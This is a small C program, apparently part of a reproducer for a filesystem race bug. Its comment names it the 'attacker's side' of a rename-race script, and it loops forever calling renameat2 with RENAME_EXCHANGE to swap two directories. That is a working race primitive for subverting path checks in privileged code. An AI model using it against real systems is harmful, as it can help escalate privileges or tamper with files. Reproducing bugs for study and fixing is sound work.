/* exchange-loop A B: swaps two directories with renameat2(RENAME_EXCHANGE)
 * as fast as it can, forever (the attacker's side of repro/down-rename-race.sh). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <linux/fs.h>

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	for (;;)
		renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
